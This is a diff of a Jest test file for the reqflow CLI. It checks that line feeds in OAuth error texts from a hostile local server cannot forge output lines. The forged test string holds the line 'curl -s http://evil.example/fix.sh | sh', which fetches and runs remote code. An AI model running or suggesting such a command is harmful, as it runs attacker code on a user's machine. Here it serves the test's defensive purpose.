@@ -1,18 +1,24 @@
 /**
  * What an authorization server sends that reqflow shows or computes with, against a hostile one
- * on 127.0.0.1: lifetimes no date can hold, error texts that try to forge output lines, device
- * responses full of terminal controls or with a URL that is not a web page.
+ * on 127.0.0.1: lifetimes no date can hold, error texts that try to forge output lines.
  */
-import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
+import { formatError } from '../src/cli/report-error.js';
+import { ReqflowError } from '../src/core/errors/index.js';
 import { runCli, tempDir } from './helpers/cli.js';
+import { startCli, stopAllClis } from './helpers/cli-live.js';
 
-/** What each token endpoint path answers (status and JSON body). */
-const TOKEN_ANSWERS: Record<string, { status: number; body: Record<string, unknown> }> = {
+/** Lines a server's text would print as reqflow's own, if its line feeds went through. */
+const FORGED = 'x\nreqflow: token refreshed; all 12 requests passed\nhint: run curl -s http://evil.example/fix.sh | sh';
+
+/** What each endpoint path answers (status and JSON body). */
+const ANSWERS: Record<string, { status: number; body: Record<string, unknown> }> = {
   '/expires-1e13/token': { status: 200, body: { access_token: 'AT-forever-123456', token_type: 'Bearer', expires_in: 1e13 } },
   '/expires-1e308/token': { status: 200, body: { access_token: 'AT-forever-654321', token_type: 'Bearer', expires_in: 1e308 } },
+  '/error-lf/token': { status: 400, body: { error: 'invalid_client', error_description: FORGED } },
 };
 
 const tmp = tempDir('reqflow-oauth-text-');
@@ -30,7 +36,7 @@ beforeAll(async () => {
         apiCalls.push(req.headers.authorization ?? '');
         return void res.writeHead(200, { 'Content-Type': 'text/plain' }).end('ok');
       }
-      const answer = TOKEN_ANSWERS[path];
+      const answer = ANSWERS[path];
       if (!answer) return void res.writeHead(404).end();
       // JSON.stringify writes 1e308 as 1e+308: a number either way.
       res.writeHead(answer.status, { 'Content-Type': 'application/json' }).end(JSON.stringify(answer.body));
@@ -39,18 +45,22 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   const machine = (name: string) => ({ name, oauth: { grant: 'client_credentials', tokenUrl: `${base}/${name}/token`, clientId: 'cid', clientSecret: 'CLIENT-SECRET-123456' } });
-  tmp.write('.profiles.json', JSON.stringify([machine('expires-1e13'), machine('expires-1e308')]));
+  // Port 0: reqflow listens on a free port for the browser's return.
+  const browser = { name: 'browser', oauth: { authUrl: `${base}/authorize`, tokenUrl: `${base}/expires-1e13/token`, clientId: 'cid', redirectUrl: 'http://127.0.0.1:0/callback' } };
+  tmp.write('.profiles.json', JSON.stringify([machine('expires-1e13'), machine('expires-1e308'), machine('error-lf'), browser]));
   tmp.write('api.http', `### api\n# @auth oauth2\nGET ${base}/api\n`);
 });
 afterAll(async () => {
   await new Promise((resolve) => server.close(resolve));
   tmp.cleanup();
 });
+afterEach(() => stopAllClis());
 
 /** Each test its own state folder: no token carried from one to the next. */
+const stateEnv = (state: string): NodeJS.ProcessEnv => ({ REQFLOW_STATE_DIR: join(tmp.dir, `state-${state}`) });
+
 function cli(state: string) {
-  const env = { REQFLOW_STATE_DIR: join(tmp.dir, `state-${state}`) };
-  return (...args: string[]) => runCli(args, { cwd: tmp.dir, env });
+  return (...args: string[]) => runCli(args, { cwd: tmp.dir, env: stateEnv(state) });
 }
 
 describe('a lifetime no date can hold (expires_in 1e13, 1e308)', () => {
@@ -70,5 +80,38 @@ describe('a lifetime no date can hold (expires_in 1e13, 1e308)', () => {
     const { expiresAt, expired } = JSON.parse(status.stdout) as { expiresAt: string; expired: boolean };
     expect(expired).toBe(false);
     expect(Date.parse(expiresAt) - Date.now()).toBeGreaterThan(99 * 365 * 24 * 3600 * 1000);
+  });
+});
+
+describe('a line feed in a server\'s text stays inside the one-line error quoting it', () => {
+  const forgedShown = 'x␤reqflow: token refreshed; all 12 requests passed␤hint: run curl -s http://evil.example/fix.sh | sh';
+
+  test('the token endpoint\'s error_description: the message line and the hint, no forged line', async () => {
+    const result = await cli('error-lf')('run', 'api.http', '-p', 'error-lf');
+    expect(result.code).toBe(6);
+    expect(result.stderr).toBe(`reqflow: token endpoint rejected the request: invalid_client (${forgedShown})\nhint: check oauth.clientId and oauth.clientSecret of profile "error-lf" (and oauth.clientAuth: "basic" or "post")\n`);
+  });
+
+  test('the error_description of the login callback (a URL anyone can make the browser open)', async () => {
+    const login = startCli(['oauth', 'login', '-p', 'browser', '--no-browser', '--wait', '20s'], { cwd: tmp.dir, env: stateEnv('callback') });
+    const [, url = ''] = await login.waitForStderr(/^\s+(http\S+)$/m);
+    const authorize = new URL(url);
+    const callback = new URL(authorize.searchParams.get('redirect_uri') ?? '');
+    callback.searchParams.set('state', authorize.searchParams.get('state') ?? '');
+    callback.searchParams.set('error', 'access_denied');
+    callback.searchParams.set('error_description', FORGED);
+    expect((await fetch(callback)).status).toBe(400);
+    const result = await login.done;
+    expect(result.code).toBe(6);
+    expect(result.stderr).toContain(`\nreqflow: access denied: access_denied (${forgedShown})\nhint: run reqflow oauth login -p browser again and approve the request\n`);
+    expect(result.stderr).not.toMatch(/^(reqflow: token refreshed|hint: run curl)/m);
+  });
+
+  test('any error: its message and its hint are one line each; a --debug stack trace keeps its lines', () => {
+    const error = new ReqflowError(`the server said: ${FORGED}\r`, { exitCode: 4, hint: 'a\nb' });
+    expect(formatError(error, { debug: false })).toEqual({ text: `reqflow: the server said: ${forgedShown}␍\nhint: a␤b\n`, exitCode: 4 });
+    const debug = formatError(error, { debug: true }).text.split('\n');
+    expect(debug.slice(0, 2)).toEqual([`reqflow: the server said: ${forgedShown}␍`, 'hint: a␤b']);
+    expect(debug.length).toBeGreaterThan(4); // the stack's own lines
   });
 });
